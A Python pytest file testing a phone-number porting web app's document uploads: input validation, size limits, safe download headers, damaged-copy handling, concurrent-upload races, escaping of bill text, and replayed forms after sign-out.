def test_a_body_that_cannot_be_read_is_refused_in_words_everywhere(app, owner_client, draft, body):
    before = counts(app)

    page = post_raw(owner_client, f"/port-requests/{draft}/bill", body)
    fax = post_raw(owner_client, "/fax-ports/new", body)
    key = issue_key(app, 4242)
    api = post_raw(app.test_client(), f"{API}/{draft}/documents", body, **bearer(key))

    for answer in (page, fax):
        assert answer.status_code == 400
        assert "That form could not be read, so nothing in it was used" in text_of(answer)
    assert "That form could not be read" in api_error(api, 400, "bad_request")
    assert counts(app) == before


# Dates and kinds ----------------------------------------------------------------------------

# (the statement date sent, the start of the words on its field)
BAD_DATES = [
    ("2026-02-30", "Enter the statement date as a date, like"),
    ("2026-13-01", "Enter the statement date as a date, like"),
    ("9999-12-31", "The statement date Dec 31, 9999 is in the future"),
    ("０２/０３/２０２６", "Enter the statement date as a date, like"),
    ("２０２６-０２-０３", "Enter the statement date as a date, like"),
    ("2026-02-03\x00", "Enter the statement date as a date, like"),
    ("\x00", "Enter the statement date as a date, like"),
    ("2026-02-03T00:00", "Enter the statement date as a date, like"),
    ("+2026-02-03", "Enter the statement date as a date, like"),
    ("20260203", "Enter the statement date as a date, like"),
    ("0000-01-01", "Enter the statement date as a date, like"),
    ("1" * 100_000, "Enter the statement date as a date, like"),
    ("", "Enter the statement date printed on the bill."),
]


@pytest.mark.parametrize(("day", "words"), BAD_DATES)
def test_a_statement_date_that_is_no_past_date_is_refused_on_its_field_everywhere(
    app, owner_client, draft, day, words
):
    before = counts(app)

    page = upload_bill_page(owner_client, draft, PDF, day=day)
    api = upload_api(app, draft, PDF, statement_date=day)

    assert page.status_code == 400
    assert field_error(page, "statement_date").startswith(words)
    assert field_error(page, "file") is None
    assert api_error(api, 400, "invalid_request").startswith(f"statement_date: {words}")
    assert counts(app) == before


def test_a_very_old_statement_date_is_kept_with_a_warning(app, owner_client, draft):
    answer = upload_bill_page(owner_client, draft, PDF, day="0001-01-01")

    assert answer.status_code == 302
    page = owner_client.get(f"/port-requests/{draft}/bill")
    assert "The bill is from Jan 1, 1: carriers want a bill from the last 30 days." in text_of(page)


@pytest.mark.parametrize(
    "kind",
    [
        "fax_proof",
        "fax_loa",
        "bill\x00",
        "\x00",
        "BILL",
        " bill",
        "bill ",
        "signed-loa",
        "x" * 9999,
    ],
)
def test_the_api_takes_only_a_bill_or_a_signed_loa(app, draft, kind):
    before = counts(app)

    answer = upload_api(app, draft, PDF, kind=kind)

    assert "kind must be bill or signed_loa" in api_error(answer, 400, "invalid_request")
    assert counts(app) == before


def test_a_kind_sent_twice_is_read_once(app, draft):
    body = multipart(
        part("kind", b"bill"),
        part("kind", b"fax_proof"),
        part("statement_date", today().isoformat().encode()),
        part("file", PDF, filename=b"bill.pdf"),
    )

    key = issue_key(app, 4242)
    answer = post_raw(app.test_client(), f"{API}/{draft}/documents", body, **bearer(key))

    assert answer.status_code == 201
    with app.app_context():
        assert [d.kind for d in Document.select()] == ["bill"]


# Sizes --------------------------------------------------------------------------------------


@pytest.fixture
def limit(app, monkeypatch):
    """The documents' limit, set lower so a test does not move 10 MB around: the edge is the
    same edge (the real 10 MB is tried once below)."""
    monkeypatch.setitem(app.config, "MAX_DOCUMENT_BYTES", 1024 * 1024)
    return 1024 * 1024


@pytest.mark.parametrize("make", [pdf_of_size, png_of_size], ids=["pdf", "png"])
def test_a_file_of_exactly_the_limit_is_kept_and_one_byte_more_is_not(
    app, owner_client, draft, limit, make
):
    exact, over = make(limit), make(limit + 1)
    assert (len(exact), len(over)) == (limit, limit + 1)

    refused = [
        upload_bill_page(owner_client, draft, over),
        upload_fax(owner_client, over),
        upload_api(app, draft, over),
    ]

    assert field_error(refused[0], "file").startswith("This file is 1.1 MB, over the 1 MB limit.")
    assert field_error(refused[1], "fax_proof").startswith("This file is 1.1 MB, over the 1 MB")
    too_large = api_error(refused[2], 413, "document_too_large")
    assert too_large.startswith("This file is 1.1 MB, over the 1 MB")
    assert counts(app)["Document"] == 0

    kept = [
        upload_bill_page(owner_client, draft, exact).status_code,
        upload_fax(owner_client, exact).status_code,
        upload_api(app, draft, exact).status_code,
    ]

    assert kept == [302, 302, 201]
    with app.app_context():
        assert [d.size for d in Document.select().where(Document.kind != "fax_loa")] == [limit] * 3


def test_the_real_limit_keeps_10_mb_and_refuses_one_byte_more(app, draft):
    limit = app.config["MAX_DOCUMENT_BYTES"]
    assert limit == 10 * 1024 * 1024

    over = upload_api(app, draft, pdf_of_size(limit + 1))
    exact = upload_api(app, draft, pdf_of_size(limit))

    assert api_error(over, 413, "document_too_large").startswith(
        "This file is 10.1 MB, over the 10 MB limit."
    )
    assert exact.status_code == 201
    assert exact.get_json()["size"] == limit


# What every download says about itself ----------------------------------------------------

SAFE_NAME = r'filename="[a-z0-9-]+\.(pdf|png|jpg|tif)"'


def downloads(world):
    """(who asks, URL, the disposition expected, whether a same-origin frame may show it)."""
    r, t = world["mine"], world["my_ticket"]
    return [
        ("owner", f"/port-requests/{r}/documents/{world['my_bill']}", "attachment", False),
        ("owner", f"/port-requests/{r}/documents/{world['my_bill']}/preview", "inline", True),
        ("owner", f"/fax-ports/{t}/documents/{world['my_fax_doc']}", "attachment", False),
        ("api", f"{API}/{r}/documents/{world['my_bill']}", "attachment", False),
        ("staff", f"/port-requests/{r}/documents/{world['my_bill']}", "attachment", False),
        ("staff", f"/port-requests/{r}/documents/{world['my_bill']}/preview", "inline", True),
        ("staff", f"/fax-ports/{t}/documents/{world['my_fax_doc']}", "attachment", False),
        (
            "owner",
            f"/port-requests/{world['my_other']}/documents/{world['my_other_bill']}",
            "attachment",
            False,
        ),
        (
            "owner",
            f"/port-requests/{world['my_other']}/documents/{world['my_other_bill']}/preview",
            "inline",
            True,
        ),
    ]


@pytest.fixture
def clients(app, owner_client, staff_client):
    key = issue_key(app, 4242)
    api = app.test_client()
    api.environ_base["HTTP_AUTHORIZATION"] = f"Bearer {key}"
    return {"owner": owner_client, "staff": staff_client, "api": api}


def test_every_download_is_the_detected_type_with_a_safe_name_never_sniffed_nor_kept(
    app, world, clients
):
    for who, url, disposition, framed in downloads(world):
        answer = clients[who].get(url)
        headers = answer.headers
        assert answer.status_code == 200, url
        assert answer.mimetype in ("application/pdf", "image/png"), url
        assert re.fullmatch(f"{disposition}; {SAFE_NAME}", headers["Content-Disposition"]), url
        assert headers["X-Content-Type-Options"] == "nosniff"
        assert headers["Cache-Control"] == "no-store"
        assert headers.get("Content-Encoding") is None
        policy = headers["Content-Security-Policy"]
        if framed:
            assert "frame-ancestors 'self'" in policy and headers["X-Frame-Options"] == "SAMEORIGIN"
        else:
            assert "frame-ancestors 'none'" in policy and headers["X-Frame-Options"] == "DENY"
        assert "script-src 'self'" in policy and "object-src 'none'" in policy


def test_an_image_is_sent_as_the_image_it_is_whatever_its_name_said(app, owner_client, draft):
    upload_bill_page(owner_client, draft, PNG, "bill.html", "text/html")
    with app.app_context():
        stored = Document.get()

    for suffix in ("", "/preview"):
        answer = owner_client.get(f"/port-requests/{draft}/documents/{stored.id}{suffix}")
        assert answer.mimetype == "image/png"
        assert answer.headers["Content-Disposition"].endswith(f'-{stored.id}.png"')


def test_the_pages_around_the_documents_are_never_framed(app, owner_client, staff_client, world):
    for client, url in (
        (owner_client, f"/port-requests/{world['mine']}/bill"),
        (owner_client, f"/fax-ports/{world['my_ticket']}"),
        (owner_client, "/fax-ports/new"),
        (staff_client, f"/fax-ports/{world['my_ticket']}"),
        (staff_client, "/queue/"),
        (owner_client, f"/port-requests/{world['mine']}/documents/999999/preview"),
    ):
        answer = client.get(url)
        assert "frame-ancestors 'none'" in answer.headers["Content-Security-Policy"], url
        assert answer.headers["X-Frame-Options"] == "DENY", url


# A stored copy damaged after upload ----------------------------------------------------------


def flip_a_byte(app, document_id):
    with app.app_context():
        content = bytearray(DocumentContent.get_by_id(document_id).content)
        content[len(content) // 2] ^= 0x20
        DocumentContent.update(content=bytes(content)).where(
            DocumentContent.document == document_id
        ).execute()
        return bytes(content)


@pytest.mark.parametrize("who", ["owner", "staff", "api"])
def test_a_damaged_copy_is_refused_in_words_by_every_route_and_logged(
    app, world, clients, caplog, who
):
    damaged = {doc: flip_a_byte(app, world[doc]) for doc in ("my_bill", "my_fax_doc")}
    other = f"/documents/{world['my_other_bill']}"
    routes = [url for w, url, _, _ in downloads(world) if w == who and other not in url]

    for url in routes:
        caplog.clear()
        with caplog.at_level(logging.ERROR):
            answer = clients[who].get(url)
        document = world["my_fax_doc"] if "/fax-ports/" in url else world["my_bill"]
        assert answer.status_code == 409, url
        assert "Content-Disposition" not in answer.headers
        assert answer.mimetype == ("application/json" if who == "api" else "text/html")
        assert b"%PDF" not in answer.data
        assert all(content[100:140] not in answer.data for content in damaged.values())
        words = answer.get_json()["error"]["message"] if who == "api" else text_of(answer)
        assert "no longer match" in words and "again" in words, words
        logged = [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR]
        assert any(f"Document {document} " in line for line in logged), logged
    # Nothing was changed by refusing it: the damaged bytes are still there for a look.
    with app.app_context():
        assert bytes(DocumentContent.get_by_id(world["my_bill"]).content) == damaged["my_bill"]


def test_a_damaged_bill_leaves_the_bill_step_readable(app, owner_client, world):
    flip_a_byte(app, world["my_bill"])

    page = owner_client.get(f"/port-requests/{world['mine']}/bill")

    assert page.status_code == 200
    assert "acme-bill.pdf" in text_of(page)


# At the same moment, through a live server with CSRF on --------------------------------------


def tab_upload(tab, path, fields, files, headers=None):
    """Send a multipart form from the tab (with its page's CSRF token); return (status, headers,
    text) as `Tab.send` does."""
    parts = [part(name, str(value).encode()) for name, value in fields.items()]
    if tab.token:
        parts.append(part("csrf_token", tab.token.encode()))
    for name, (data, filename) in files.items():
        parts.append(part(name, data, filename=filename.encode(), content_type=b"application/pdf"))
    sent = {
        **(headers or {}),
        "Content-Type": f"multipart/form-data; boundary={BOUNDARY}",
        "Cookie": "; ".join(f"{k}={m.value}" for k, m in tab.cookies.items()),
    }
    tab.connection.request("POST", path, multipart(*parts), sent)
    response = tab.connection.getresponse()
    text = unescape(response.read().decode("utf-8", "replace"))
    for cookie in response.headers.get_all("Set-Cookie") or ():
        tab.cookies.load(cookie)
    return response.status, response.headers, text


def api_upload(tab, request_id, key, data, filename):
    fields = {"kind": "bill", "statement_date": today().isoformat()}
    saved, tab.token = tab.token, None
    try:
        return tab_upload(
            tab, f"{API}/{request_id}/documents", fields, {"file": (data, filename)}, bearer(key)
        )
    finally:
        tab.token = saved


def bill_form_fields():
    return {"statement_date": today().isoformat()}


def numbered_bill(n):
    return bill_pdf((*bill_pdf.__defaults__[0], f"Copy {n}"))


def document_events(app, request_id):
    with app.app_context():
        rows = RequestEvent.select().where(
            (RequestEvent.port_request == request_id) & (RequestEvent.kind == "document")
        )
        return [row.message for row in rows.order_by(RequestEvent.id)]


def test_bills_uploaded_at_once_leave_one_current_and_each_in_the_history(
    app, inventory, live, signed_in
):
    mine = make_draft(app, inventory[0])
    page = f"/port-requests/{mine}/bill"
    first = signed_in()
    tabs = [first, *(first.copy() for _ in range(3))]
    for tab in tabs:
        tab.get(page)
    key = issue_key(app, 4242)
    api = Tab(live, first.opened)
    sends = [
        lambda tab=tab, n=n: tab_upload(
            tab, page, bill_form_fields(), {"file": (numbered_bill(n), f"bill-{n}.pdf")}
        )[0]
        for n, tab in enumerate(tabs)
    ]
    sends.append(lambda: api_upload(api, mine, key, numbered_bill(4), "bill-4.pdf")[0])

    answers = at_once(*sends)

    assert answers == [302, 302, 302, 302, 201]
    with app.app_context():
        bills = list(Document.select().where(Document.port_request == mine).order_by(Document.id))
        contents = DocumentContent.select().where(
            DocumentContent.document.in_([d.id for d in bills])
        )
        assert len({row.content for row in contents}) == 5
    assert sorted(d.label for d in bills) == [f"bill-{n}.pdf" for n in range(5)]
    current = [d for d in bills if d.replaced_at is None]
    assert len(current) == 1
    # The timeline is one chain: each upload replaced the one current before it.
    lines = document_events(app, mine)
    assert len(lines) == 5
    chain = [re.fullmatch(r"Uploaded the bill (\S+)\.", lines[0])[1]]
    for line in lines[1:]:
        replaced, new = re.fullmatch(r"Replaced the bill (\S+) with (\S+)\.", line).groups()
        assert replaced == chain[-1]
        chain.append(new)
    assert chain[-1] == current[0].label
    assert sorted(chain) == sorted(d.label for d in bills)


def test_an_upload_racing_the_drafts_deletion_leaves_nothing_behind(
    app, inventory, live, signed_in
):
    key = issue_key(app, 4242)
    first = signed_in()
    for _ in range(3):
        mine = make_draft(app, inventory[0])
        store_bill(app, mine)
        deleting, uploading, also = (first.copy() for _ in range(3))
        deleting.get(f"/port-requests/{mine}/delete")
        for tab in (uploading, also):
            tab.get(f"/port-requests/{mine}/bill")
        api = Tab(live, first.opened)
        page = f"/port-requests/{mine}/bill"

        answers = at_once(
            lambda deleting=deleting, mine=mine: deleting.post(f"/port-requests/{mine}/delete", {})[
                0
            ],
            lambda tab=uploading, page=page: tab_upload(
                tab, page, bill_form_fields(), {"file": (numbered_bill(1), "one.pdf")}
            )[0],
            lambda tab=also, page=page: tab_upload(
                tab, page, bill_form_fields(), {"file": (numbered_bill(2), "two.pdf")}
            )[0],
            lambda api=api, mine=mine: api_upload(api, mine, key, numbered_bill(3), "three.pdf")[0],
        )

        assert answers[0] == 302
        assert set(answers[1:3]) <= {302, 404} and answers[3] in (201, 404), answers
        with app.app_context():
            assert PortRequest.get_or_none(PortRequest.id == mine) is None
    assert {name: n for name, n in counts(app).items() if name != "FaxTicket"} == {
        "Document": 0,
        "DocumentContent": 0,
        "RequestEvent": 0,
        "WarningConfirmation": 0,
    }


def test_a_confirmation_racing_the_fix_never_confirms_a_warning_no_longer_shown(
    app, inventory, live, signed_in
):
    first = signed_in()
    for _ in range(4):
        mine = make_draft(app, inventory[0], with_account(TYPO))
        store_bill(app, mine)
        confirming, fixing = first.copy(), first.copy()
        _, _, page = confirming.get(f"/port-requests/{mine}/bill")
        fixing.get(f"/port-requests/{mine}/details")
        message = re.search(r"The account number 81234465010 is not on the bill;[^<]*", page)[0]
        confirm = {"field": "billing.account_number", "code": "not_on_bill", "message": message}
        fixed = {**COMPLETE, "billing.account_number": ACCOUNT}
        confirmed_url = f"/port-requests/{mine}/warnings/confirm"
        details_url = f"/port-requests/{mine}/details"

        answers = dict(
            zip(
                ("confirm", "fix"),
                at_once(
                    lambda tab=confirming, url=confirmed_url, form=confirm: tab.post(url, form),
                    lambda tab=fixing, url=details_url, form=fixed: tab.post(url, form),
                ),
                strict=True,
            )
        )

        assert answers["confirm"][0] == answers["fix"][0] == 302
        with app.app_context():
            rows = list(
                RequestEvent.select()
                .where(RequestEvent.port_request == mine, RequestEvent.kind != "document")
                .order_by(RequestEvent.id)
            )
            confirmed = WarningConfirmation.select().where(WarningConfirmation.port_request == mine)
            kinds = [row.kind for row in rows]
            if confirmed.count():
                # Recorded while the warning showed: before the fix, never after it.
                assert kinds == ["confirmed", "saved"], kinds
                assert confirmed.get().message == message
            else:
                assert kinds == ["saved"], kinds
        # Whichever came first, the page now shows no warning on the account number.
        _, _, now = first.get(f"/port-requests/{mine}/bill")
        assert "81234465010 is not on the bill" not in now.split("Checked and confirmed")[0]


def test_two_fax_tickets_sent_at_once_with_the_same_files(app, live, signed_in):
    first = signed_in()
    tabs = [first, first.copy()]
    for tab in tabs:
        tab.get("/fax-ports/new")
    files = {"fax_proof": (PDF, "proof.pdf"), "fax_loa": (PDF, "loa.pdf")}
    numbers = {"numbers": "(614) 322-1001"}

    answers = at_once(
        *[lambda tab=tab: tab_upload(tab, "/fax-ports/new", numbers, files) for tab in tabs]
    )

    # A double click files one ticket: the second answer leads to the first's.
    assert [status for status, _, _ in answers] == [302, 302]
    assert answers[0][1]["Location"] == answers[1][1]["Location"]
    with app.app_context():
        assert (FaxTicket.select().count(), Document.select().count()) == (1, 2)
    shown = [tab.get(answers[0][1]["Location"])[2] for tab in tabs]
    assert sorted("This ticket was filed already" in page for page in shown) == [False, True]
    assert sum("Your fax port ticket is filed." in page for page in shown) == 1


# What the bill says, shown back -------------------------------------------------------------


def test_markup_in_the_bills_text_is_shown_as_text(app, owner_client, inventory):
    named = {**with_account(ACCOUNT)}
    named["billing"] = {**named["billing"], "customer_name": "HARBOR CLINIC, LLC"}
    mine = make_draft(app, inventory[0], named)
    lines = ("HARBOR<i>CLINIX LLC", "1200 N HIGH ST", "COLUMBUS OH 43201",
             "Account number: 8123 4465 001", "Billing telephone number: 614-322-1000")  # fmt: skip
    store_bill(app, mine, bill_pdf(lines))

    page = owner_client.get(f"/port-requests/{mine}/bill").get_data(as_text=True)
    details = owner_client.get(f"/port-requests/{mine}/details").get_data(as_text=True)

    shown = "the bill shows &#34;HARBOR&lt;i&gt;CLINIX LLC&#34;"
    assert shown in page and shown in details
    assert "<i>CLINIX" not in page and "<i>CLINIX" not in details


@pytest.mark.parametrize(
    "form",
    [
        {"field": "billing.account_number\x00", "code": "not_on_bill", "message": "x"},
        {"field": "bill", "code": "bill_required", "message": "\x00" * 1000},
        {"field": "x" * 100_000, "code": "y" * 100_000, "message": "z" * 1_000_000},
        {},
        {"field": ["a", "b"], "code": "not_on_bill", "message": "x"},
    ],
    ids=["nul", "nul-message", "huge", "empty", "twice"],
)
@pytest.mark.parametrize("htmx", [False, True], ids=["page", "htmx"])
def test_a_crafted_confirmation_confirms_nothing(app, owner_client, inventory, form, htmx):
    mine = make_draft(app, inventory[0], with_account(TYPO))
    store_bill(app, mine)
    before = counts(app)

    answer = owner_client.post(
        f"/port-requests/{mine}/warnings/confirm",
        data=form,
        headers={"HX-Request": "true"} if htmx else {},
    )

    assert answer.status_code == (200 if htmx else 302)
    if htmx:
        assert "That warning changed since the page was loaded, so nothing was confirmed" in (
            text_of(answer)
        )
    assert counts(app) == before


def over_the_body_limit(app, client, path):
    huge = b"%PDF-1.4\n" + b"0" * (app.config["MAX_CONTENT_LENGTH"] + 10)
    form = {
        "file": (huge, "huge.pdf", "application/pdf"),
        "statement_date": "2026-01-01",
        "numbers": "(614) 322-1001",
        "fax_proof": (huge, "huge.pdf", "application/pdf"),
    }
    return post_form(client, path, form)


@pytest.mark.parametrize("path", ["/port-requests/{r}/bill", "/fax-ports/new"])
def test_a_body_over_the_servers_limit_is_a_413_page_and_stores_nothing(
    app, owner_client, draft, path
):
    answer = over_the_body_limit(app, owner_client, path.format(r=draft))

    assert answer.status_code == 413
    assert "That upload is too large" in text_of(answer)
    assert counts(app)["Document"] == 0


@pytest.mark.parametrize("path", ["/port-requests/{r}/bill", "/fax-ports/new"])
def test_a_body_over_the_servers_limit_is_told_the_documents_limit(app, owner_client, draft, path):
    answer = over_the_body_limit(app, owner_client, path.format(r=draft))

    assert answer.status_code == 413
    assert "A document can be at most 10 MB." in text_of(answer)
    assert counts(app)["Document"] == 0


@pytest.mark.parametrize(
    ("day", "words"),
    [
        ("9999-12-31", "signed_date: 9999-12-31 is in the future"),
        ("1900-01-01", "signed_date: 1900-01-01 is more than a year ago"),
        ("2026-02-30", "signed_date must be a date as YYYY-MM-DD"),
        ("\x00", "signed_date must be a date as YYYY-MM-DD"),
        ("２０２６-０２-０３", "signed_date must be a date as YYYY-MM-DD"),
    ],
)
def test_a_signed_loas_date_that_is_no_past_date_is_refused(app, draft, day, words):
    answer = upload_api(app, draft, PDF, kind="signed_loa", signed_date=day, statement_date=None)

    assert api_error(answer, 400, "invalid_request").startswith(words)
    assert counts(app)["Document"] == 0


# Replayed forms -----------------------------------------------------------------------------


@pytest.mark.parametrize("headers", [{}, {"HX-Request": "true"}], ids=["page", "htmx"])
def test_a_bill_or_a_confirmation_replayed_after_sign_out_changes_nothing(
    app, inventory, signed_in, headers
):
    mine = make_draft(app, inventory[0], with_account(TYPO))
    store_bill(app, mine)
    tab = signed_in()
    _, _, page = tab.get(f"/port-requests/{mine}/bill")
    message = re.search(r"The account number 81234465010 is not on the bill;[^<]*", page)[0]
    replayed = tab.copy()  # the cookie and the token as they were before signing out
    tab.post("/logout", {})
    before = counts(app)

    upload = tab_upload(
        replayed,
        f"/port-requests/{mine}/bill",
        bill_form_fields(),
        {"file": (PDF, "again.pdf")},
        headers,
    )
    confirm = replayed.post(
        f"/port-requests/{mine}/warnings/confirm",
        {"field": "billing.account_number", "code": "not_on_bill", "message": message},
        headers,
    )

    for status, answer, _ in (upload, confirm):
        if headers:
            assert (status, answer["HX-Redirect"][:6]) == (204, "/login")
        else:
            assert (status, answer["Location"][:6]) == (302, "/login")
    assert counts(app) == before
